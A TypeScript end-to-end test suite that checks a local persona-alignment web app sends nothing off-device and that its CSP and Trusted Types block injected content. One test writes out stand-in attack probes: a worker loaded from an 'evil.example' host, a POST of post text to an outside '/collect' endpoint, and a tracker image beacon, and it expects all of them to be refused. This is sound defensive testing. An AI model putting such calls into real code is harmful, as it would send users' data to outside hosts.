/**
 * Privacy against the built app (vite build + vite preview, strict CSP, service worker):
 * a whole session — demo corpus import, Align on the demo personas vs the built-in reference,
 * an export download — makes no request that leaves the app's origin, from the page, its workers
 * or its service worker, and no request carries post text. Then the CSP itself: inline script,
 * eval and a fetch to another host are refused by the browser before any network activity.
 * A second step runs every other stage in the same session: mining, quality and profile with the
 * test engine (through the app's modules on the e2e page, as the app never offers the test engine),
 * Target with the lexical embedder, Results and its export.
 */
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { demoPostSnippets, fromWebContent, policyErrors, type NetLogRequest, importDemoCorpus, offOrigin, openApp, openSession, runAlignment, type Session } from './helpers';

const baseUrl = inject('baseUrl');
const distDir = inject('distDir');

describe('privacy: nothing leaves the device', () => {
  let s: Session;
  let netlog: NetLogRequest[] = [];
  beforeAll(async () => {
    s = await openSession(baseUrl);
  });
  afterAll(async () => {
    if (s) await s.close();
  });

  test('demo import, alignment and export stay on 127.0.0.1; no request carries post text', async () => {
    const { page } = s;
    await openApp(page, baseUrl);
    const summary = await importDemoCorpus(page);
    expect(summary).toMatch(/Imported “.+”: [\d,]+ posts by 40 authors/);

    const heading = await runAlignment(page, { method: 'semi-relaxed', backend: 'gpu', size: '150', builtinN: '1000' });
    expect(heading).toMatch(/^Selected 150 of [\d,]+ personas$/);
    expect(await page.locator('align-results [data-testid="al-backend"]').textContent()).toMatch(/^WebGPU — /);

    // Export: the download is built in the page (blob:), not fetched from anywhere.
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download selected set (CSV)' }).click()]);
    expect(download.url()).toMatch(/^blob:http:\/\/127\.0\.0\.1:\d+\//);
    expect(download.suggestedFilename()).toMatch(/\.csv$/);

    const urls = s.requests.map((r) => r.url);
    expect(urls.length).toBeGreaterThan(10);
    // The workers' own fetches were seen (bundled data read by the align worker or the page).
    expect(urls.some((u) => u.includes('/assets/') && u.includes('.worker-'))).toBe(true);
    expect(offOrigin(urls, baseUrl)).toEqual([]);
    expect(s.blocked).toEqual([]);

    const snippets = await demoPostSnippets(distDir);
    expect(snippets.length).toBeGreaterThan(100);
    const bodies = s.requests.map((r) => r.body).filter((b) => b.length > 0);
    const leaked = snippets.filter((t) => bodies.some((b) => b.includes(t)));
    expect(leaked).toEqual([]);
    // The app itself ran into no CSP or Trusted Types refusal (workers, WebGPU, Lit, export).
    expect(policyErrors(s)).toEqual([]);
    // Nothing was sent anywhere with a body at all, and only GETs were made.
    expect(s.requests.filter((r) => r.method !== 'GET').map((r) => `${r.method} ${r.url}`)).toEqual([]);
  });

  test('every stage: mining, quality and profile with the test engine, Target with the lexical embedder, Results and its export stay on 127.0.0.1', async () => {
    const { page } = s;
    const from = s.requests.length;
    // Stages 2-4 through the app's own modules and the test engine (never offered in the app itself).
    await page.goto(`${baseUrl}/test/e2e/pages/persona-jobs.html`);
    await page.waitForFunction(() => document.body.dataset['ready'] === '1', undefined, { timeout: 30_000 });
    const corpus = await page.evaluate(() => window.personaJobs.importDemo('e2e-privacy-stages'));
    const outcome = await page.evaluate((c) => window.personaJobs.run('e2e-privacy-stages', c, 'privacy'), corpus);
    expect(outcome.complete).toBe(true);
    const mined = await page.evaluate((c) => window.personaJobs.personas('e2e-privacy-stages', c), corpus);
    expect(mined.filter((p) => p.traits !== undefined).length).toBeGreaterThan(0);

    // Target: a group on the demo personas with the lexical embedder and the built-in reference.
    await openApp(page, baseUrl, '#/target');
    await page.locator('target-stage #tg-run').waitFor({ timeout: 30_000 });
    await page.locator('target-stage input[name="size"]').fill('50');
    await page.locator('target-stage input[name="topN"]').fill('150');
    await page.locator('target-stage input[name="builtinN"]').fill('600');
    await page.locator('target-stage #tg-run').click();
    await page.locator('target-results [data-testid="tg-comparison"]').waitFor({ timeout: 150_000 });

    // Results opens the newest run; its export is built in the page.
    await page.locator('app-shell nav a[data-stage="results"]').click();
    await page.locator('results-stage [data-testid="rs-metrics"]').waitFor({ timeout: 60_000 });
    const download = page.locator('export-panel [data-testid="ep-download"]');
    await download.waitFor({ timeout: 30_000 });
    const [file] = await Promise.all([page.waitForEvent('download'), download.click()]);
    expect(file.url()).toMatch(/^blob:http:\/\/127\.0\.0\.1:\d+\//);

    const requests = s.requests.slice(from);
    expect(requests.length).toBeGreaterThan(5);
    expect(offOrigin(requests.map((r) => r.url), baseUrl)).toEqual([]);
    expect(s.blocked).toEqual([]);
    const snippets = await demoPostSnippets(distDir);
    const bodies = requests.map((r) => r.body).filter((b) => b.length > 0);
    expect(snippets.filter((t) => bodies.some((b) => b.includes(t)))).toEqual([]);
    expect(requests.filter((r) => r.method !== 'GET').map((r) => `${r.method} ${r.url}`)).toEqual([]);
    expect(policyErrors(s)).toEqual([]);
  });

  test('the CSP is in effect: inline script, inline handlers and outside fetches/images are refused before any network activity', async () => {
    const { page } = s;
    const before = s.requests.length;
    const result = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
      const w = window as unknown as Record<string, unknown>;
      // 1. An injected inline script does not run.
      const script = document.createElement('script');
      let scriptError = '';
      try {
        script.textContent = 'window.__inlineRan = 1';
        document.body.append(script);
      } catch (e) {
        scriptError = String(e);
      }
      // 2. An inline event handler does not run (Trusted Types refuses the string first; the CSP's
      //    script-src without 'unsafe-inline' would refuse to run it).
      let handlerError = '';
      const img = document.createElement('img');
      try {
        img.setAttribute('onerror', 'window.__handlerRan = 1');
      } catch (e) {
        handlerError = e instanceof Error ? e.name : String(e);
      }
      img.src = 'data:image/png;base64,AAAA';
      document.body.append(img);
      // 3. Trusted Types: a string is refused by HTML sinks, and a worker from another origin or a
      //    blob: URL is refused by the default policy (src/pwa.ts).
      const tt: string[] = [];
      try {
        document.createElement('div').innerHTML = '<b>x</b>';
        tt.push('innerHTML accepted');
      } catch (e) {
        tt.push(`innerHTML ${(e as Error).name}`);
      }
      for (const src of ['https://evil.example/w.js', URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))]) {
        try {
          new Worker(src, { type: 'module' }).terminate();
          tt.push('worker accepted');
        } catch (e) {
          tt.push(`worker ${(e as Error).name}`);
        }
      }
      // 4. A fetch to another host fails without leaving the page.
      let fetchError = '';
      try {
        await fetch('https://example.org/collect', { method: 'POST', body: 'post text' });
      } catch (e) {
        fetchError = e instanceof Error ? e.name : String(e);
      }
      // 5. So does an image beacon to another host.
      const beacon = document.createElement('img');
      beacon.src = 'https://tracker.example.net/p.gif';
      document.body.append(beacon);
      await new Promise((r) => setTimeout(r, 500));
      return { inlineRan: w['__inlineRan'], handlerRan: w['__handlerRan'], scriptError, handlerError, fetchError, tt, violations };
    });
    expect(result.inlineRan).toBeUndefined();
    expect(result.handlerRan).toBeUndefined();
    expect(result.scriptError).toMatch(/TypeError.*TrustedScript/);
    expect(result.handlerError).toBe('TypeError');
    expect(result.fetchError).toBe('TypeError');
    expect(result.tt).toEqual(['innerHTML TypeError', 'worker TypeError', 'worker TypeError']);
    expect(result.violations).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^require-trusted-types-for trusted-types-sink/),
        'connect-src https://example.org/collect',
        'img-src https://tracker.example.net/p.gif',
      ]),
    );
    // Refused by the browser's policy: the fetch never became a request at all; the image shows up
    // in DevTools as "blocked:csp" but never reached the network layer (the catch-all route, which
    // sees every request that gets that far, saw neither; the NetLog test below confirms it).
    const after = s.requests.slice(before).map((r) => r.url);
    expect(after.filter((u) => u.includes('example.org'))).toEqual([]);
    expect(s.blocked).toEqual([]);
  });

  test('every response carries the CSP header, worker scripts included (workers take their policy from it)', async () => {
    const { page } = s;
    const res = await page.request.get(`${baseUrl}/`);
    const csp = res.headers()['content-security-policy'] ?? '';
    expect(csp).toContain("script-src 'self' 'wasm-unsafe-eval'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).not.toContain('unsafe-inline');
    expect(csp).toContain("require-trusted-types-for 'script'; trusted-types lit-html default");
    // No 'unsafe-eval': eval()/new Function() are refused in the page and workers. (Not probed
    // from page.evaluate: code run through DevTools is exempt from the page's CSP.)
    expect(csp).not.toContain("'unsafe-eval'");
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toContain("default-src 'self'");
    expect(meta).toContain("object-src 'none'");
    const workerUrl = s.requests.map((r) => r.url).find((u) => /\/assets\/align\.worker-[^/]+\.js$/.test(u));
    expect(workerUrl).toBeTruthy();
    const w = await page.request.get(workerUrl!);
    expect(w.headers()['content-security-policy']).toBe(csp);
    const sw = await page.request.get(`${baseUrl}/sw.js`);
    expect(sw.headers()['content-security-policy']).toBe(csp);
  });

  test("Chromium's own network log: every request from the app's page, workers and service worker went to 127.0.0.1:<port>", async () => {
    // Runs last: closes the browser so the NetLog is complete.
    netlog = await s.close();
    s = undefined as unknown as Session;
    const app = fromWebContent(netlog, baseUrl);
    expect(app.length).toBeGreaterThan(10);
    expect(offOrigin(app.map((r) => r.url), baseUrl)).toEqual([]);
    // The browser's own services (updater, sign-in; not the app) are logged for the record; they
    // cannot resolve any host here (--host-resolver-rules), so they reach nothing either.
    const own = [...new Set(offOrigin(netlog.filter((r) => !app.includes(r)).map((r) => r.url), baseUrl).map((u) => new URL(u).host))];
    console.log(`[e2e] NetLog: ${app.length} requests from the app, all to ${new URL(baseUrl).host}; browser-internal attempts (unresolvable here): ${own.join(', ') || 'none'}`);
  });
});
